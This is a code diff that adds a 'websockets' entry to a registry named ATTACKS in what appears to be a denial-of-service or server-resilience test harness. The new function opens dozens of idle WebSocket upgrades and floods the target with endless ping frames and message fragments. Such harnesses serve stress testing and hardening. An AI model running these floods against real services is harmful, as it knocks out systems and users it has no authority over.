@@ -200,6 +200,22 @@ async def endless_metadata(_: str, address: str, __: str) -> None:
     await _again(lambda: _send(f"http://{address}", frames), 2)
 
 
+async def websockets(http: str, _: str, __: str) -> None:
+    """WebSockets without a key: 60 that say nothing, and pings and pieces of a first message as many as are taken."""
+    names = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13")
+    head = _head("/v1/stream", *names, "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==").replace(b"POST", b"GET", 1)
+    unmasked = b"\x00\x00\x00\x00"
+    ping, piece = b"\x89\xfd" + unmasked + b"x" * 125, b"\x00\x81" + unmasked + b"x"
+    first = b"\x01\x81" + unmasked + b"{"
+    floods = itertools.cycle([[head, ping * 100], [head + first, piece * 500]])
+
+    async def flood() -> None:
+        begin, rest = next(floods)
+        await _send(http, itertools.chain([begin], itertools.repeat(rest)))
+
+    await asyncio.gather(_again(lambda: _send(http, iter([head])), 60, 1.0), _again(flood, 2))
+
+
 ATTACKS: dict[str, Attack] = {
     attack.__name__: attack
     for attack in (
@@ -214,6 +230,7 @@ ATTACKS: dict[str, Attack] = {
         pings,
         resets,
         endless_metadata,
+        websockets,
     )
 }
 
